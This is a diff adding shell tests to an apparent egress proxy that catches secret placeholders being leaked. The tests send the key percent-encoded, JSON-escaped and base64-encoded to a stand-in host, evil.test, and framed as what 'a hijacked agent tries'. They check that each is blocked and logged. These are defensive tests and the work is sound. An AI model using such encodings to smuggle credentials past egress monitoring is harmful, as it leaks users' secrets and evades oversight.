@@ -208,6 +208,64 @@ grep -qF "$KEY" "$w/partials" && fail "part of a cut request carried the placeho
 expect_leak "opaque tunnel" 451
 grep -qF "$GH" "$w/tcp.log" && fail "the tunnel's peer received the placeholder"
 
+# ---- encoded placeholders (proxy/tripwire.h): the first thing a hijacked agent tries ----
+# enc FORM [PREFIX]: KEY encoded whole, after PREFIX (which sets the base64 alignment).
+enc() {
+    $py - "$1" "${2:-}" "$KEY" <<'PY'
+import base64, sys
+form, prefix, key = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
+if form == "pct":
+    print("".join("%%%02X" % b for b in key))
+elif form == "pct-lower":
+    print("".join("%%%02x" % b for b in key))
+elif form == "json-u":
+    print('{"k": "' + "".join("\\u%04x" % b for b in key) + '"}')
+elif form == "b64":
+    print(base64.b64encode(prefix + key).decode())
+elif form == "b64url":
+    print(base64.urlsafe_b64encode(prefix + key).decode().rstrip("="))
+PY
+}
+expect_enc() { # what encoding-name status
+    expect_leak "$1" "$3"
+    grep -qF "$2" "$w/body" || fail "$1: the 451 does not say $2: $(cat "$w/body")"
+    tail -n 1 "$w/events.jsonl" | grep -qF "\"encoding\":\"$2" ||
+        fail "$1: the leak event lacks the encoding: $(tail -n 1 "$w/events.jsonl")"
+}
+expect_enc "percent-encoded header" percent-encoded "$(code -H "X-T: $(enc pct)" http://evil.test/enc1)"
+expect_enc "percent-encoded form body, lower case" percent-encoded \
+    "$(code --data "k=$(enc pct-lower)" http://evil.test/enc2)"
+expect_enc "\\u-escaped JSON body" json-escaped \
+    "$(code -H 'Content-Type: application/json' --data "$(enc json-u)" http://evil.test/enc3)"
+for a in "" a ab; do
+    expect_enc "base64 body, ${#a} bytes before" base64-encoded \
+        "$(code --data-binary "$(enc b64 "$a")" http://evil.test/enc4-${#a})"
+done
+# (named base64url-encoded only where the URL-safe alphabet's form differs: unit-tested)
+expect_enc "base64url in the URL" base64 \
+    "$(code "http://evil.test/enc5?state=$(enc b64url "{\"t\":\"")")"
+expect_enc "base64 header (not Basic)" base64-encoded \
+    "$(code -H "X-Auth: Bearer $(enc b64 "tok=")" http://evil.test/enc6)"
+expect_enc "base64 in a streamed body past the buffer" base64-encoded \
+    "$($py "$raw" bigbody "$px" http://evil.test/enc7 1000000 700001 "$(enc b64 x)")"
+[ "$($py "$raw" tunnel "$px" tunnel.bound.test:22 "login $(enc b64 ab)")" = closed ] ||
+    fail "a base64 placeholder in an opaque tunnel to an unbound host was relayed"
+expect_leak "base64 in an opaque tunnel" 451
+for x in 1 2 3 4-0 4-1 4-2 5 6 7; do reached "/enc$x" && fail "encoded leak enc$x reached the server"; done
+# Towards a host the secret is bound to an encoded placeholder goes as it is (only the
+# placeholder as it stands is substituted), and is no leak.
+pc -H "X-T: $(enc b64 ab)" --data "k=$(enc pct)" "http://plain.bound.test/enc-bound" >"$w/out"
+grep -qF "$(enc b64 ab)" "$w/out" || fail "an encoded placeholder to its bound host was altered"
+grep -qF "$real_key" "$w/out" && fail "an encoded placeholder was substituted"
+# Near misses are not leaks: the same encodings of a string one character off (inside the tail
+# the encoded forms are made of).
+i=$((${#KEY} - 16))
+other=${KEY:0:$i}$([ "${KEY:$i:1}" = A ] && echo B || echo A)${KEY:$((i + 1))}
+near=$(printf %s "$other" | base64 -w0)
+[ "$(code -H "X-T: $near" --data "k=$(KEY=$other enc pct)" http://evil.test/near)" = 200 ] ||
+    fail "a near miss was taken for an encoded placeholder: $(cat "$w/body")"
+[ "$(leaks)" = "$n" ] || fail "a bound or near-miss request was reported as a leak"
+
 # ---- CONNECT, SNI and Host must agree ----
 [ "$($py "$raw" tls "$px" evil.test:443 api.bound.test "$w/install/egress-ca.crt")" = \
     handshake-failed ] || fail "SNI api.bound.test inside CONNECT evil.test was accepted"
